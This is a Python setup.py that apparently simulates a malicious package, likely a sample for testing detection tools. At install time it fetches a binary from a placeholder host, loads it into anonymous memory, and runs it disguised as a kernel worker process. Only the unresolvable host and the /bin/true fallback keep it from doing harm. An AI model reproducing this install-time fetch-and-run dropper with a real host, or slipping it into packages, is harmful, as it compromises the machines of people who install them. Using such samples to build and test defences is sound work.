# SPDX-License-Identifier: Apache-2.0
"""Harmless: nothing can be fetched; the program executed is a copy of `true`."""

import os
import urllib.request

from setuptools import setup

try:
    program = urllib.request.urlopen("http://dl.sim-memfd.invalid/agent", timeout=3).read()
except OSError:
    with open("/bin/true", "rb") as file:
        program = file.read()
memory = os.memfd_create("", os.MFD_CLOEXEC)
os.write(memory, program)
if (child := os.fork()) == 0:
    os.execve(f"/proc/self/fd/{memory}", ["[kworker/0:1]"], dict(os.environ))
os.waitpid(child, 0)

setup(name="sim-memfd-dropper", version="1.0.0", py_modules=[])
